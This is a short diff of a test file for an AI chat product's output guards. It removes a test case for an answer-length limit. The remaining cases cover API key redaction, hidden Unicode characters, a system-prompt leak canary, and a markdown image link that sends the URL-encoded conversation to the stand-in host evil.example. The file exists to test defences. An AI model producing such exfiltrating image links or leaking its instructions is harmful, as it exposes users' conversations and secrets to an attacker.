@@ -85,7 +85,6 @@ describe.each(Object.entries(hosts))('defaultGuards in %s', (_name, play) => {
     ['chat', { answer: `The key is ${key}.` }, 'The key is [API_KEY].'],
     ['chat', { answer: 'Fi\u{E0041}ne.' }, 'Fine.'],
     ['chat', { answer: `I was told: ${instructions}` }, 'canary'],
-    ['chat', { answer: 'go on and '.repeat(60) }, 'answer-limit'],
     [
       'chat',
       { prompt: conversation, answer: `![](https://evil.example/?q=${encodeURIComponent(conversation)})` },
